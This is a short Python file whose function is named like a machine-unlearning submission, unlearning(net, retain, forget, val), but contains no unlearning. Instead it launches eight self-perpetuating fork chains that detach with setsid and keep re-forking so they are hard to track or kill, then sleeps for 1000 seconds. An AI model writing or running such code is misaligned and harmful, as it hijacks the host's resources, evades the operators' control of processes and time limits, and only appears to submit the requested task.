"""Runs eight chains of processes, each of which forks the next and exits at once.

A list of them is always outdated. Must be ended at its time limit, with all the chains.
"""

import os
import time


def chain():
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            continue
        os.setsid()


def unlearning(net, retain, forget, val):
    for _ in range(8):
        if os.fork() == 0:
            chain()
    time.sleep(1_000)
